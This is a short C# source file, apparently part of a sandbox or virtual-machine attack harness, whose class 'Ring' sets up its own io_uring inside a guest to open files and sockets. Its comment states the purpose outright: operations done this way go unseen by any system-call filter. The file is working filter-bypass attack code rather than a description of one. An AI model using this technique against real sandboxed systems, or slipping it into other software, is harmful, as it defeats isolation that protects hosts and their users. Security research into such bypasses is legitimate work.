namespace Vmm.Hole;

/// <summary>An io_uring of the attacker's own: what is done with it no filter of system calls sees.</summary>
internal static class Ring
{
    private const int Setup = 425, Enter = 426, MapMemory = 9;
    private const byte OpenAt = 18, MakeSocket = 45;

    /// <summary>Opens a file.</summary>
    internal static long Open(HoleGuest guest, string path) => Do(guest, OpenAt, fd: -100, offset: 0, guest.Text(path));

    /// <summary>Opens a socket.</summary>
    internal static long Socket(HoleGuest guest, int domain, long type) => Do(guest, MakeSocket, domain, type, address: 0);

    private static long Do(HoleGuest guest, byte operation, int fd, long offset, long address)
    {
        long parameters = guest.Bytes(new byte[120]);
        long ring = guest.Call(Setup, 1, parameters);
        if (ring < 0) return ring;
        long rings = guest.Call(MapMemory, 0, 4096, 3, 1, ring, 0), entries = guest.Call(MapMemory, 0, 4096, 3, 1, ring, 0x10000000);
        int Offset(int at) => guest.ReadInt(parameters + at);
        byte[] entry = new byte[64];
        entry[0] = operation;
        BitConverter.TryWriteBytes(entry.AsSpan(4), fd);
        BitConverter.TryWriteBytes(entry.AsSpan(8), offset);
        BitConverter.TryWriteBytes(entry.AsSpan(16), address);
        guest.Write(entries, entry);
        guest.WriteInt(rings + Offset(64), 0);
        guest.WriteInt(rings + Offset(44), 1);
        long entered = guest.Call(Enter, ring, 1, 1, 1, 0, 0);
        return entered < 0 ? entered : guest.ReadInt(rings + Offset(100) + 8);
    }
}
